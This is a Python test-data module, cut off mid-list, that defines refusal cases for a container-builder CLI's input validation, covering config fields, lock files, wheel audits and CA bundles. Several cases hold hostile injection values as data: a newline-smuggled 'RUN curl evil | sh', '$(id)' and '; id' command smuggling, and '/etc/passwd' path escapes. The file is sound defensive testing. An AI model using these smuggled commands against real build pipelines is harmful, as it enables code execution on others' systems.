"""The bad inputs a hostile or careless user tries, as data: shared by tests/hardening/test_hardening.py (one test case
each) and benchmarks/hardening.py (which counts clear refusals, tracebacks and silent acceptances).

Every case runs the real CLI on a private copy of the cuda-ext fixture (tests/fixtures/cuda-ext) in a temp
directory and states the exit code and the words the one-line message must contain. Nothing may be written:
no work, log, pins or wheelhouse directory, no stray file, no image.

The test runs a case in-process (click's CliRunner on builder.cli:main, the entry point's own error path)
unless it runs as another user or must start docker / skopeo to answer (`runs_in_process`); the benchmark runs
every case as a real `python -m builder.cli` process. More cases plug in as modules beside this one,
tests/hardening/*.py, each with its own `CASES: list[Case]` (collected at the end of this file).
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import uuid
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from tests.helpers import REPO

FIXTURE = REPO / "tests" / "fixtures" / "cuda-ext"
HOST_CA = Path("/etc/ssl/certs/ca-certificates.crt")
# the registry prefix of every cell the cases could build: the suite checks no image under it ever appears
# one per test run, the same on both of scripts/test's workers (pytest-xdist names the run in every worker's
# environment), so test_no_refused_input_ever_tagged_an_image looks under the prefix the cases used
RUN_ID = (os.environ.get("PYTEST_XDIST_TESTRUNUID") or uuid.uuid4().hex)[:10]
REGISTRY = f"127.0.0.1:5000/hardening-{RUN_ID}"
# the directories builder writes when it runs; none may appear for a refused input
OUTPUTS = ("build", "logs", "wheelhouse", "runtime-pins", "w", "l", "p", "wh")


@dataclass
class Case:
    id: str
    cls: str  # which class of the issue: inject, shape, audit-corrupt, audit-proof, late, fs, selector
    args: list[str]  # "{fx}" is the fixture copy, "{tmp}" the temp dir
    code: int = 2
    expect: tuple[str, ...] = ()  # fragments of the message
    matrix: Callable[[str], str] | None = None  # edits the fixture's matrix.toml text
    knowledge: Callable[[str], str] | None = None  # edits the fixture's engines.toml text
    files: dict = field(default_factory=dict)  # path relative to tmp → text, bytes or a callable(path)
    env: dict = field(default_factory=dict)
    as_nobody: bool = False  # run as uid 65534: root reads every file, so unreadable means another user
    needs_programs: bool = False  # answers only after starting docker / skopeo (exit 3): a real process, not pure


def replace(old: str, new: str) -> Callable[[str], str]:
    def edit(text: str) -> str:
        assert old in text, (old, text)
        return text.replace(old, new, 1)

    return edit


def add_default(line: str) -> Callable[[str], str]:
    return replace("[defaults]\n", f"[defaults]\n{line}\n")


def set_key(key: str, value: str) -> Callable[[str], str]:
    """Replace `key = ...` (the first line starting with it) by `key = value`."""

    def edit(text: str) -> str:
        lines = text.splitlines()
        for i, line in enumerate(lines):
            if line.startswith(f"{key} = "):
                lines[i] = f"{key} = {value}"
                return "\n".join(lines) + "\n"
        raise AssertionError(f"no {key} in {text}")

    return edit


RULE = "[[packages.cuda-ext.rules]]\n"


def rule(line: str) -> Callable[[str], str]:
    """A key added to the cuda-ext package's rule in the knowledge file."""
    return replace('launch = ["python", "-m", "cuda_ext"]\n\n# The same',
                   f'launch = ["python", "-m", "cuda_ext"]\n{line}\n\n# The same')


def lock(text: str) -> dict:
    return {"fx/matrix.lock": "format = 1\n" + text}


GOOD_SDIST = ('[packages."flash-attn==2.8.3".sdist]\nfilename = "flash_attn-2.8.3.tar.gz"\n'
              'url = "https://files.example/flash_attn-2.8.3.tar.gz"\nsha256 = "' + "a" * 64 + '"\n')


def fifo(path: Path) -> None:
    os.mkfifo(path)


def loop(path: Path) -> None:
    os.symlink(path.name, path)  # a symlink to itself: ELOOP


def directory(path: Path) -> None:
    path.mkdir()


def proc_mem(path: Path) -> None:
    """A file that exists and cannot be read even by root: /proc/self/mem at offset 0 answers EIO."""
    os.symlink("/proc/self/mem", path)


def unreadable(text: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_text(text)
        path.chmod(0)

    return make


def big_toml(path: Path) -> None:
    path.write_text("x = \"" + "a" * (17 << 20) + "\"\n")


def deep_toml(path: Path) -> None:
    path.write_text("[defaults]\nprofile = \"local\"\nmodel = " + "[" * 5000 + "]" * 5000 + "\n")


def wheel(members: dict[str, bytes], corrupt: bool = False, deflate: bool = True) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as zf:
            for name, data in members.items():
                zf.writestr(name, data)
        if corrupt:  # flip bytes in the middle of the .so member's data: its CRC-32 no longer matches
            with zipfile.ZipFile(path) as zf:
                info = next(i for i in zf.infolist() if i.filename.endswith(".so"))
            raw = bytearray(path.read_bytes())
            name_len, extra_len = int.from_bytes(raw[info.header_offset + 26:][:2], "little"), \
                int.from_bytes(raw[info.header_offset + 28:][:2], "little")
            start = info.header_offset + 30 + name_len + extra_len
            middle = start + info.compress_size // 2
            for i in range(middle - 2, middle + 2):
                raw[i] ^= 0x5A
            path.write_bytes(bytes(raw))

    return make


# A minimal 64-bit ELF with section headers and no fatbin: a host-only library (no device code)
def _host_elf() -> bytes:
    import struct

    shstr = b"\0.shstrtab\0.text\0"
    ehdr_size, sh_size = 64, 64
    shoff = ehdr_size + len(shstr)
    ehdr = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    ehdr += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, shoff, 0, ehdr_size, 0, 0, sh_size, 3, 1)
    null = bytes(sh_size)
    strtab = struct.pack("<IIQQQQIIQQ", 1, 3, 0, 0, ehdr_size, len(shstr), 0, 0, 1, 0)
    text = struct.pack("<IIQQQQIIQQ", 11, 1, 6, 0, ehdr_size, 0, 0, 0, 16, 0)
    return ehdr + shstr + null + strtab + text


HOST_ELF = _host_elf()
PEM_GARBAGE = "-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n"

M = ["--matrix", "{fx}/matrix.toml"]
PLAN = ["plan", *M]
# --model shape:NAME values builder cannot generate (the known one is shape:27b)
SHAPE_MODELS = {"empty": "shape:", "unknown": "shape:99b", "upper": "shape:27B", "dotdot": "shape:27b/../x",
                "space": "shape:27b ", "newline": "shape:27b\n", "tiny": "shape:tiny", "long": "shape:" + "2" * (120 << 10)}
BUILD = ["build", *M, "--work-dir", "{tmp}/w", "--log-dir", "{tmp}/l", "--pins-dir", "{tmp}/p", "--wheelhouse", "{tmp}/wh"]
DRY = [*BUILD, "--dry-run"]

CASES: list[Case] = [
    # -- 1. strings that would reach a Dockerfile or a command line --------------------------------------------
    Case("base-devel-newline", "inject", [*PLAN, "--base-devel", "debian\nRUN curl evil | sh"], expect=("--base-devel", "contains a newline")),
    Case("base-runtime-newline", "inject", [*PLAN, "--base-runtime", "debian:12\nUSER root"], expect=("--base-runtime", "contains a newline")),
    Case("base-devel-space", "inject", [*PLAN, "--base-devel", "debian AS x"], expect=("--base-devel", "is not an image reference")),
    Case("base-devel-uppercase", "inject", [*PLAN, "--base-devel", "Debian:12"], expect=("--base-devel", "is not an image reference")),
    Case("base-devel-dollar", "inject", [*PLAN, "--base-devel", "$(id)"], expect=("--base-devel",)),
    Case("base-runtime-quote", "inject", [*PLAN, "--base-runtime", "a\"b"], expect=("--base-runtime",)),
    Case("base-devel-empty", "inject", [*PLAN, "--base-devel", ""], expect=("--base-devel",)),
    Case("base-devel-bad-digest", "inject", [*PLAN, "--base-devel", "debian@sha256:xyz"], expect=("--base-devel",)),
    Case("base-devel-tag-too-long", "inject", [*PLAN, "--base-devel", "debian:" + "a" * 200], expect=("--base-devel",)),
    Case("render-base-newline", "inject", ["render", *M, "--base-devel", "x\nRUN id"], expect=("--base-devel", "newline")),
    Case("profile-os-newline", "inject", PLAN, matrix=set_key("os", '"bookworm\\nRUN id"'), expect=("profiles.local.os", "contains a newline")),
    Case("profile-os-space", "inject", PLAN, matrix=set_key("os", '"book worm"'), expect=("profiles.local.os", "not an OS tag")),
    Case("profile-os-slash", "inject", PLAN, matrix=set_key("os", '"../../x"'), expect=("profiles.local.os",)),
    Case("base-images-devel-newline", "inject", PLAN, matrix=set_key("devel", '"debian\\nRUN id"'),
         expect=("defaults.base_images.devel", "contains a newline")),
    Case("base-images-runtime-space", "inject", PLAN, matrix=set_key("runtime", '"debian 12"'),
         expect=("defaults.base_images.runtime", "not an image reference")),
    Case("mirror-key-newline", "inject", PLAN, matrix=add_default('mirrors = { "builder-local/cuda\\nRUN id" = "m.example/cuda" }'),
         expect=("defaults.mirrors", "newline")),
    Case("mirror-value-newline", "inject", PLAN, matrix=add_default('mirrors = { "builder-local/cuda" = "m.example/cuda\\nRUN id" }'),
         expect=('defaults.mirrors."builder-local/cuda"', "newline")),
    Case("mirror-value-space", "inject", PLAN, matrix=add_default('mirrors = { "builder-local/cuda" = "m.example/cu da" }'),
         expect=('defaults.mirrors."builder-local/cuda"', "not an image name")),
    Case("index-newline", "inject", PLAN, matrix=add_default('index = "https://pypi.org/simple\\nRUN id"'),
         expect=("defaults.index", "newline")),
    Case("index-not-a-url", "inject", PLAN, matrix=add_default('index = "pypi.org/simple"'), expect=("defaults.index", "not a URL")),
    Case("index-quote", "inject", PLAN, matrix=add_default("index = \"https://pypi.org/simple'; id; '\""),
         expect=("defaults.index", "no URL may contain")),
    Case("index-file-scheme", "inject", PLAN, matrix=add_default('index = "file:///etc/passwd"'), expect=("defaults.index", "scheme")),
    Case("registry-uppercase", "inject", PLAN, matrix=set_key("registry", '"127.0.0.1:5000/Builder"'), expect=("defaults.registry",)),
    Case("registry-newline", "inject", PLAN, matrix=set_key("registry", '"127.0.0.1:5000/b\\nRUN id"'), expect=("defaults.registry",)),
    Case("model-newline", "inject", PLAN, matrix=add_default('model = "Qwen/x\\nRUN id"'), expect=("defaults.model",)),
    Case("python-newline", "inject", PLAN, matrix=set_key("python", '"3.11\\nRUN id"'), expect=("profiles.local.python",)),
    Case("python-unicode-digits", "inject", PLAN, matrix=set_key("python", '"3.١١"'), expect=("profiles.local.python",)),
    Case("cuda-newline", "inject", PLAN, matrix=set_key("cuda", '"13.0.88\\n"'), expect=("profiles.local.cuda",)),
    Case("engine-version-newline", "inject", PLAN, matrix=set_key("engines", '{ cuda-ext = "1.0.0\\nRUN id" }'),
         expect=("profiles.local.engines.cuda-ext", "newline")),
    Case("engine-version-space", "inject", PLAN, matrix=set_key("engines", '{ cuda-ext = " 1.0.0" }'),
         expect=("profiles.local.engines.cuda-ext", "not a version")),
    Case("engine-version-plus-tag", "inject", PLAN, matrix=set_key("engines", '{ cuda-ext = "1.0.0+local" }'),
         expect=("no valid image reference",)),
    Case("knowledge-path-newline", "inject", PLAN, matrix=set_key("knowledge", '["engines.toml\\n"]'),
         expect=("defaults.knowledge[0]", "newline")),
    Case("build-env-value-newline", "inject", PLAN, knowledge=rule('build_env = { X = "1\\nRUN id" }'),
         expect=("build_env.X", "contains a newline")),
    Case("build-env-value-quote", "inject", PLAN, knowledge=rule('build_env = { X = "1\\" && id && \\"" }'),
         expect=("build_env.X", "double quote")),
    Case("build-env-key-bad", "inject", PLAN, knowledge=rule('build_env = { "X Y" = "1" }'),
         expect=("build_env", "key 'X Y'", "variable name")),
    Case("knob-env-bad", "inject", PLAN, knowledge=replace('arch_knobs = [{ env = "CUDA_EXT_ARCHS"', 'arch_knobs = [{ env = "A=1 B"'),
         expect=("arch_knobs[0].env", "variable name")),
    Case("build-command-newline", "inject", PLAN, knowledge=rule('build_command = "make\\nRUN id"'),
         expect=("build_command", "newline")),
    Case("build-requirement-quote", "inject", PLAN, knowledge=rule("build_requirements_list = [\"x'; id; '\"]"),
         expect=("build_requirements_list[0]", "single quote")),
    Case("patch-replace-quote", "inject", PLAN,
         knowledge=rule("patches = [{ file = \"setup.py\", replace = \"a'b\", with = \"c\" }]"), expect=("patches[0].replace", "single quote")),
    Case("patch-file-escapes", "inject", PLAN,
         knowledge=rule('patches = [{ file = "../../etc/passwd", replace = "a", with = "c" }]'), expect=("patches[0].file", "relative path")),
    Case("git-repository-space", "inject", PLAN, knowledge=rule('git_repository = "https://x/y z"'), expect=("git_repository",)),
    Case("git-tag-semicolon", "inject", PLAN, knowledge=rule('git_tag = "v1;id"'), expect=("git_tag", "plain word")),
    Case("rust-toolchain-space", "inject", PLAN, knowledge=rule('rust_toolchain = "1.80 && id"'), expect=("rust_toolchain",)),
    Case("template-path", "inject", PLAN, knowledge=set_key("template", '"../image.Dockerfile"'), expect=("template",)),
    Case("template-unknown", "inject", PLAN, knowledge=set_key("template", '"nosuch"'), expect=("template", "no dockerfiles/packages/nosuch.j2")),
    Case("pypi-name-space", "inject", PLAN, knowledge=set_key("pypi", '"cuda ext"'), expect=("pypi", "PyPI project name")),
    Case("package-name-uppercase", "inject", PLAN, knowledge=lambda t: t + '\n[packages.Bad]\npypi = "b"\nkind = "engine"\n',
         expect=("packages", "key 'Bad'", "package name")),
    Case("source-subdir-space", "inject", PLAN, knowledge=replace('source_subdir = "pkg"', 'source_subdir = "pkg dir"'),
         expect=("source_subdir",)),
    Case("build-tools-redirect", "inject", PLAN, knowledge=lambda t: t + '\n[build_tools]\ncmake = "cmake>/etc/x"\n',
         expect=("build_tools.cmake", "requirement")),
    Case("lock-sdist-url-newline", "inject", PLAN, files=lock(GOOD_SDIST.replace('tar.gz"\nsha', 'tar.gz\\nRUN id"\nsha')),
         expect=("matrix.lock", "sdist.url", "newline")),
    Case("lock-sdist-filename-semicolon", "inject", PLAN, files=lock(GOOD_SDIST.replace('filename = "flash_attn-2.8.3.tar.gz"', 'filename = "x;id"')),
         expect=("matrix.lock", "sdist.filename", "plain file name")),
    Case("lock-sdist-sha-short", "inject", PLAN, files=lock(GOOD_SDIST.replace("a" * 64, "abc")), expect=("matrix.lock", "sdist.sha256", "sha256")),
    Case("lock-git-commit-bad", "inject", PLAN,
         files=lock('[packages."x==1".git]\nrepository = "https://github.com/o/r"\ntag = "v1"\ncommit = "HEAD; id"\n'),
         expect=("matrix.lock", "git.commit", "git commit")),
    Case("lock-git-repo-space", "inject", PLAN,
         files=lock('[packages."x==1".git]\nrepository = "https://github.com/o/r x"\ntag = "v1"\ncommit = ""\n'),
         expect=("matrix.lock", "git.repository")),
    Case("lock-pin-newline", "inject", PLAN, files=lock('[packages."x==1".pins]\nvllm = "0.5.5\\nRUN id"\n'),
         expect=("matrix.lock", "pins.vllm", "newline")),
    Case("work-dir-newline", "inject", [*DRY[:-1], "--work-dir", "{tmp}/w\nx", "--dry-run"], expect=("--work-dir", "newline")),
    Case("ca-bundle-path-newline", "inject", [*DRY, "--ca-bundle", "{tmp}/ca\n.pem"], expect=("--ca-bundle", "newline")),
    Case("audit-target-newline", "inject", ["audit", "x\ny", "--arch", "80"], expect=("audit", "newline")),

    # -- 2. wrong types and shapes in matrix.toml, matrix.lock and knowledge files; bad placeholders; bad files --
    Case("devel-is-int", "shape", PLAN, matrix=set_key("devel", "5"), expect=("defaults.base_images.devel", "expected an image reference", "got an integer 5")),
    Case("base-images-is-string", "shape", PLAN, matrix=lambda t: t.replace('[defaults.base_images]\ndevel = "builder-local/cuda:13.0-devel"\nruntime = "builder-local/cuda:13.0-base"\n', '').replace("[defaults]\n", '[defaults]\nbase_images = "x"\n'),
         expect=("defaults.base_images", "expected a table, got a string")),
    Case("mirrors-is-string", "shape", PLAN, matrix=add_default('mirrors = "x"'), expect=("defaults.mirrors", "expected a table of image names")),
    Case("mirror-value-is-table", "shape", PLAN, matrix=add_default('mirrors = { "builder-local/cuda" = { a = 1 } }'),
         expect=('defaults.mirrors."builder-local/cuda"', "expected an image name", "got a table")),
    Case("mirror-value-is-int", "shape", PLAN, matrix=add_default('mirrors = { "builder-local/cuda" = 5 }'), expect=("expected an image name", "got an integer 5")),
    Case("knowledge-int", "shape", PLAN, matrix=set_key("knowledge", "[5]"), expect=("defaults.knowledge[0]", "expected a path on one line, got an integer 5")),
    Case("knowledge-string", "shape", PLAN, matrix=set_key("knowledge", '"engines.toml"'), expect=("defaults.knowledge", "expected a list of paths")),
    Case("defaults-is-array", "shape", PLAN, matrix=lambda t: "defaults = [1]\n" + t.split("[profiles.local]")[1].join(["[profiles.local]", ""]),
         expect=("defaults", "expected a table, got a list")),
    Case("profiles-is-array", "shape", PLAN, matrix=lambda t: "profiles = [1]\n" + t.split("[profiles.local]")[0],
         expect=("profiles", "expected a table of tables, got a list")),
    Case("engines-is-array", "shape", PLAN, matrix=set_key("engines", '["cuda-ext"]'), expect=("profiles.local.engines", "expected a table of versions")),
    Case("engine-version-is-float", "shape", PLAN, matrix=set_key("engines", "{ cuda-ext = 1.0 }"),
         expect=("profiles.local.engines.cuda-ext", "expected a version like 0.33.0, got a float")),
    Case("python-is-float", "shape", PLAN, matrix=set_key("python", "3.11"), expect=("profiles.local.python", "expected a Python version like 3.12, got a float")),
    Case("cuda-is-int", "shape", PLAN, matrix=set_key("cuda", "13"), expect=("profiles.local.cuda", "expected a CUDA version like 13.0.3, got an integer")),
    Case("os-is-bool", "shape", PLAN, matrix=set_key("os", "true"), expect=("profiles.local.os", "expected an OS tag like ubuntu24.04, got a boolean")),
    Case("archs-has-bool", "shape", PLAN, matrix=set_key("archs", "[true]"), expect=("defaults.archs[0]", "expected an SM arch number")),
    Case("archs-has-string", "shape", PLAN, matrix=set_key("archs", '["80"]'), expect=("defaults.archs[0]", "expected an SM arch number")),
    Case("strategies-is-string", "shape", PLAN, matrix=lambda t: t + 'strategies = "MTP2"\n', expect=("profiles.local.strategies", "expected a list of strings")),
    Case("registry-is-int", "shape", PLAN, matrix=set_key("registry", "5"), expect=("defaults.registry", "expected a registry/repository prefix", "got an integer")),
    Case("profile-is-array", "shape", PLAN, matrix=set_key("profile", '["local"]'), expect=("defaults.profile", "expected a string, got a list")),
    Case("epoch-is-string", "shape", PLAN, matrix=add_default('source_date_epoch = "yesterday"'), expect=("defaults.source_date_epoch", "Unix timestamp")),
    Case("epoch-negative", "shape", PLAN, matrix=add_default("source_date_epoch = -1"), expect=("defaults.source_date_epoch", "out of range")),
    Case("epoch-bool", "shape", PLAN, matrix=add_default("source_date_epoch = true"), expect=("defaults.source_date_epoch",)),
    Case("placeholder-unknown", "shape", PLAN, matrix=set_key("devel", '"nvidia/cuda:{cud}-devel"'),
         expect=("defaults.base_images.devel", "unknown placeholder {cud}", "known: {cuda}, {os}")),
    Case("placeholder-positional", "shape", PLAN, matrix=set_key("devel", '"nvidia/cuda:{0}"'), expect=("defaults.base_images.devel", "placeholder {0}")),
    Case("placeholder-unclosed", "shape", PLAN, matrix=set_key("devel", '"nvidia/cuda:{cuda"'), expect=("defaults.base_images.devel", "bad placeholder")),
    Case("placeholder-attribute", "shape", PLAN, matrix=set_key("runtime", '"nvidia/cuda:{cuda.real}"'), expect=("defaults.base_images.runtime", "placeholder")),
    Case("placeholder-format-spec", "shape", PLAN, matrix=set_key("runtime", '"nvidia/cuda:{cuda:>30}"'), expect=("defaults.base_images.runtime", "placeholder")),
    Case("placeholder-conversion", "shape", PLAN, matrix=set_key("runtime", '"nvidia/cuda:{os!r}"'), expect=("defaults.base_images.runtime", "placeholder")),
    Case("profile-base-placeholder", "shape", PLAN, matrix=lambda t: t + '[profiles.local.base_images]\ndevel = "x:{python}"\n',
         expect=("profiles.local.base_images.devel", "unknown placeholder {python}")),
    Case("matrix-not-utf8", "shape", PLAN, files={"fx/matrix.toml": b"[defaults]\nmodel = \"\xff\xfe\"\n"}, expect=("matrix.toml", "not UTF-8")),
    Case("matrix-is-directory", "shape", ["plan", "--matrix", "{tmp}/adir"], files={"adir": directory}, expect=("adir", "directory")),
    Case("matrix-is-fifo", "shape", ["plan", "--matrix", "{tmp}/fifo.toml"], files={"fifo.toml": fifo}, expect=("fifo.toml", "not a regular file")),
    Case("matrix-symlink-loop", "shape", ["plan", "--matrix", "{tmp}/loop.toml"], files={"loop.toml": loop}, expect=("loop.toml", "cannot read")),
    Case("matrix-io-error", "shape", ["plan", "--matrix", "{tmp}/mem.toml"], files={"mem.toml": proc_mem}, expect=("mem.toml", "cannot read")),
    Case("matrix-too-big", "shape", ["plan", "--matrix", "{tmp}/big.toml"], files={"big.toml": big_toml}, expect=("big.toml", "never that large")),
    Case("matrix-nested-absurdly", "shape", ["plan", "--matrix", "{tmp}/deep.toml"], files={"deep.toml": deep_toml}, expect=("deep.toml", "nested")),
    Case("matrix-unreadable", "shape", ["plan", "--matrix", "{tmp}/secret.toml"], files={"secret.toml": unreadable("[defaults]\n")},
         as_nobody=True, expect=("secret.toml", "not readable")),
    Case("matrix-malformed", "shape", PLAN, files={"fx/matrix.toml": "[defaults\n"}, expect=("matrix.toml", "malformed TOML")),
    Case("lock-packages-not-table", "shape", PLAN, files=lock("packages = [1, 2]\n"), expect=("matrix.lock", "packages", "expected a table")),
    Case("lock-entry-not-table", "shape", PLAN, files=lock('packages = { "x==1" = 5 }\n'), expect=("matrix.lock", "expected a table")),
    Case("lock-pins-not-table", "shape", PLAN, files=lock('[packages."x==1"]\npins = "vllm"\n'), expect=("matrix.lock", "pins", "expected a table")),
    Case("lock-version-not-string", "shape", PLAN, files=lock('[packages."x==1"]\ntorch = 2.4\n'), expect=("matrix.lock", "torch", "got a float")),
    Case("lock-sdist-missing-url", "shape", PLAN, files=lock('[packages."x==1".sdist]\nfilename = "x.tar.gz"\nsha256 = "' + "a" * 64 + '"\n'),
         expect=("matrix.lock", "missing key 'url'")),
    Case("lock-key-not-pin", "shape", PLAN, files=lock('[packages."x"]\ntorch = "2.4.0"\n'), expect=("matrix.lock", "name==version")),
    Case("lock-format-string", "shape", PLAN, files={"fx/matrix.lock": 'format = "1"\n'}, expect=("matrix.lock", "lock format '1'")),
    Case("lock-unknown-key", "shape", PLAN, files=lock('[packages."x==1"]\ntorhc = "2.4.0"\n'), expect=("matrix.lock", "unknown key 'torhc'")),
    Case("lock-not-utf8", "shape", PLAN, files={"fx/matrix.lock": b"format = 1\n# \xff\n"}, expect=("matrix.lock", "not UTF-8")),
    Case("lock-is-directory", "shape", PLAN, files={"fx/matrix.lock": directory}, expect=("matrix.lock", "directory")),
    Case("lock-is-fifo", "shape", PLAN, files={"fx/matrix.lock": fifo}, expect=("matrix.lock", "not a regular file")),
    Case("lock-nested-absurdly", "shape", PLAN, files={"fx/matrix.lock": "format = 1\nx = " + "[" * 3000 + "]" * 3000 + "\n"},
         expect=("matrix.lock", "nested")),
    Case("lock-unreadable", "shape", PLAN, files={"fx/matrix.lock": unreadable("format = 1\n")}, as_nobody=True,
         expect=("matrix.lock", "Permission denied")),
    Case("knowledge-packages-int", "shape", PLAN, knowledge=lambda t: "packages = 5\n", expect=("engines.toml", "packages", "expected a table")),
    Case("knowledge-cuda-key-bad", "shape", PLAN, knowledge=lambda t: t + '\n[cuda."thirteen"]\narchs = [80]\n',
         expect=("engines.toml", "cuda", "key 'thirteen'")),
    Case("knowledge-not-utf8", "shape", PLAN, files={"fx/engines.toml": b"# \xc3\x28\n"}, expect=("engines.toml", "not UTF-8")),
    Case("knowledge-is-directory", "shape", PLAN, files={"fx/engines.toml": directory}, expect=("engines.toml", "directory")),
    Case("knowledge-is-fifo", "shape", PLAN, files={"fx/engines.toml": fifo}, expect=("engines.toml", "not a regular file")),
    Case("knowledge-nested-absurdly", "shape", PLAN, files={"fx/engines.toml": "x = " + "[" * 3000 + "]" * 3000 + "\n"}, expect=("engines.toml", "nested")),
    Case("knowledge-unreadable", "shape", PLAN, files={"fx/engines.toml": unreadable("")}, as_nobody=True, expect=("engines.toml", "Permission denied")),
    Case("knowledge-rule-versions-int", "shape", PLAN, knowledge=replace('versions = ">=1.0"', "versions = 1"),
         expect=("engines.toml", "rules[0].versions", "got an integer")),
    Case("knowledge-arch-knobs-table", "shape", PLAN, knowledge=replace('arch_knobs = [{ env = "CUDA_EXT_ARCHS", format = "semicolon" }]', 'arch_knobs = { env = "X" }'),
         expect=("engines.toml", "arch_knobs", "expected a list")),

    # -- 3. audit on corrupt or unreadable input -----------------------------------------------------------
    Case("audit-wheel-bad-crc", "audit-corrupt", ["audit", "{tmp}/bad-1.0-py3-none-any.whl", "--arch", "80"],
         files={"bad-1.0-py3-none-any.whl": wheel({"bad/_C.so": HOST_ELF * 4}, corrupt=True)}, expect=("could not be read", "corrupt")),
    Case("audit-wheel-bad-crc-stored", "audit-corrupt", ["audit", "{tmp}/bad-1.0-py3-none-any.whl", "--arch", "80"],
         files={"bad-1.0-py3-none-any.whl": wheel({"bad/_C.so": HOST_ELF * 4}, corrupt=True, deflate=False)}, expect=("could not be read", "CRC")),
    Case("audit-dir-with-bad-wheel", "audit-corrupt", ["audit", "{tmp}/dist", "--arch", "80"],
         files={"dist": directory, "dist/bad-1.0-py3-none-any.whl": wheel({"bad/_C.so": HOST_ELF * 4}, corrupt=True)},
         expect=("could not be read", "bad-1.0-py3-none-any.whl!bad/_C.so")),
    Case("audit-wheel-not-a-zip", "audit-corrupt", ["audit", "{tmp}/x-1.0-py3-none-any.whl", "--arch", "80"],
         files={"x-1.0-py3-none-any.whl": "not a zip"}, expect=("not a wheel",)),
    Case("audit-wheel-truncated", "audit-corrupt", ["audit", "{tmp}/cut.whl", "--arch", "80"],
         files={"cut.whl": lambda p: (wheel({"c/_C.so": HOST_ELF * 50})(p), p.write_bytes(p.read_bytes()[:-40]))},
         expect=("cut.whl",)),
    Case("audit-so-io-error", "audit-corrupt", ["audit", "{tmp}/libmem.so", "--arch", "80"], files={"libmem.so": proc_mem},
         expect=("libmem.so", "cannot read")),
    Case("audit-so-unreadable", "audit-corrupt", ["audit", "{tmp}/libsecret.so", "--arch", "80"],
         files={"libsecret.so": lambda p: (p.write_bytes(HOST_ELF), p.chmod(0))}, as_nobody=True, expect=("libsecret.so", "Permission denied")),
    Case("audit-dir-unreadable-so", "audit-corrupt", ["audit", "{tmp}/tree", "--arch", "80"],
         files={"tree": directory, "tree/libsecret.so": lambda p: (p.write_bytes(HOST_ELF), p.chmod(0))}, as_nobody=True,
         expect=("could not be read", "libsecret.so", "Permission denied")),
    Case("audit-dir-unreadable-subdir", "audit-corrupt", ["audit", "{tmp}/tree", "--arch", "80"],
         files={"tree": directory, "tree/sub": lambda p: (p.mkdir(), p.chmod(0))}, as_nobody=True,
         expect=("could not be read", "sub", "Permission denied")),
    Case("audit-image-daemon-down", "audit-corrupt", ["audit", "example/some:image", "--arch", "80"], code=3,
         env={"DOCKER_HOST": "unix:///nonexistent/docker.sock"}, expect=("the Docker daemon is not reachable",),
         needs_programs=True),
    Case("audit-image-docker-missing", "audit-corrupt", ["audit", "example/some:image", "--arch", "80"], code=3,
         env={"PATH": "/nonexistent"}, expect=("docker: command not found",), needs_programs=True),
    Case("audit-not-path-nor-image", "audit-corrupt", ["audit", "Not An Image", "--arch", "80"], expect=("not an image reference",)),
    Case("audit-not-elf", "audit-corrupt", ["audit", "{tmp}/libtext.so", "--arch", "80"], files={"libtext.so": "INPUT(-lc)\n"},
         expect=("not an ELF file",)),
    Case("audit-fifo", "audit-corrupt", ["audit", "{tmp}/lib.so", "--arch", "80"], files={"lib.so": fifo}, expect=("not a regular file",)),

    # -- 4. the audit must prove something -------------------------------------------------------------------
    Case("audit-empty-dir", "audit-proof", ["audit", "{tmp}/empty", "--arch", "80,90"], code=1, files={"empty": directory},
         expect=("nothing proven",)),
    Case("audit-empty-wheel", "audit-proof", ["audit", "{tmp}/e-1.0-py3-none-any.whl", "--arch", "80"], code=1,
         files={"e-1.0-py3-none-any.whl": wheel({})}, expect=("nothing proven",)),
    Case("audit-python-only-wheel", "audit-proof", ["audit", "{tmp}/p-1.0-py3-none-any.whl", "--arch", "80"], code=1,
         files={"p-1.0-py3-none-any.whl": wheel({"p/__init__.py": b""})}, expect=("nothing proven",)),
    Case("audit-non-elf-library-in-wheel", "audit-proof", ["audit", "{tmp}/n-1.0-py3-none-any.whl", "--arch", "80"], code=1,
         files={"n-1.0-py3-none-any.whl": wheel({"n/_C.so": b"not an ELF at all"})}, expect=("nothing proven",)),
    Case("audit-non-elf-library-in-dir", "audit-proof", ["audit", "{tmp}/d", "--arch", "80"], code=1,
         files={"d": directory, "d/_C.so": "text"}, expect=("nothing proven",)),
    Case("audit-host-only-library", "audit-proof", ["audit", "{tmp}/libhost.so", "--arch", "80"], code=1,
         files={"libhost.so": HOST_ELF}, expect=("nothing proven",)),
    Case("audit-host-only-in-wheel", "audit-proof", ["audit", "{tmp}/h-1.0-py3-none-any.whl", "--arch", "90"], code=1,
         files={"h-1.0-py3-none-any.whl": wheel({"h/_C.so": HOST_ELF})}, expect=("nothing proven",)),

    # -- 5. late failures that could have been early ----------------------------------------------------------
    Case("ca-bundle-empty-file", "late", [*DRY, "--ca-bundle", "{tmp}/empty.pem"], files={"empty.pem": ""}, expect=("--ca-bundle", "is empty")),
    Case("ca-bundle-directory", "late", [*DRY, "--ca-bundle", "{tmp}/cadir"], files={"cadir": directory}, expect=("--ca-bundle",)),
    Case("ca-bundle-not-pem", "late", [*DRY, "--ca-bundle", "{tmp}/ca.txt"], files={"ca.txt": "hello\n"}, expect=("--ca-bundle", "no PEM certificate")),
    Case("ca-bundle-bad-pem", "late", [*DRY, "--ca-bundle", "{tmp}/bad.pem"], files={"bad.pem": PEM_GARBAGE},
         expect=("--ca-bundle", "OpenSSL cannot load")),
    Case("ca-bundle-fifo", "late", [*DRY, "--ca-bundle", "{tmp}/ca.fifo"], files={"ca.fifo": fifo}, expect=("--ca-bundle", "FIFO")),
    Case("ca-bundle-empty-flag", "late", [*DRY, "--ca-bundle", ""], expect=("--ca-bundle", "empty path")),
    Case("ca-bundle-empty-env", "late", DRY, env={"BUILDER_CA_BUNDLE": ""}, expect=("BUILDER_CA_BUNDLE", "empty path")),
    Case("ca-bundle-unreadable", "late", [*DRY, "--ca-bundle", "{tmp}/ca.pem"], files={"ca.pem": unreadable(PEM_GARBAGE)},
         as_nobody=True, expect=("ca.pem", "not readable")),
